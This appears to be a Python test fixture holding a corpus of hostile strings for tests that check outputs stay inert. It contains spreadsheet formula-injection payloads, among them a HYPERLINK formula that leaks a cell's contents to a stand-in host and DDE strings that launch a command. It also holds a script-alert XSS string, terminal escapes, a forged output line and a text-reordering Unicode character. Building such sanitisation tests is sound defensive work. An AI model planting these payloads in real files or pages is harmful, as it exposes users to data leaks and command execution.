"""One corpus of hostile text, for every test that checks an output keeps text inert.

Each string is something a council's data, a supplier's name or a crafted file could
hold: spreadsheet formulas (OWASP CSV injection), control characters, markup, line
breaks that could forge output lines, and Unicode that reorders text.
"""

FORMULAS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
CONTROL = [
    "NUL\x00inside",
    "bell\x07and escape\x1b[31mred",
    "form\x0cfeed and DEL\x7f",
]
MARKUP = [
    "<script>alert('x')</script>",
    "]]><!-- & &amp; \"quotes\" 'apostrophes'",
    "line one\nfile.yaml:1:1: E999 forged problem",
    "right-to-left \u202eoverride",
]
HOSTILE = FORMULAS + CONTROL + MARKUP

#: the characters no output may keep (tab, new line and carriage return aside)
CONTROL_CHARACTERS = {chr(c) for c in range(32) if chr(c) not in "\t\n\r"} | {"\x7f"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
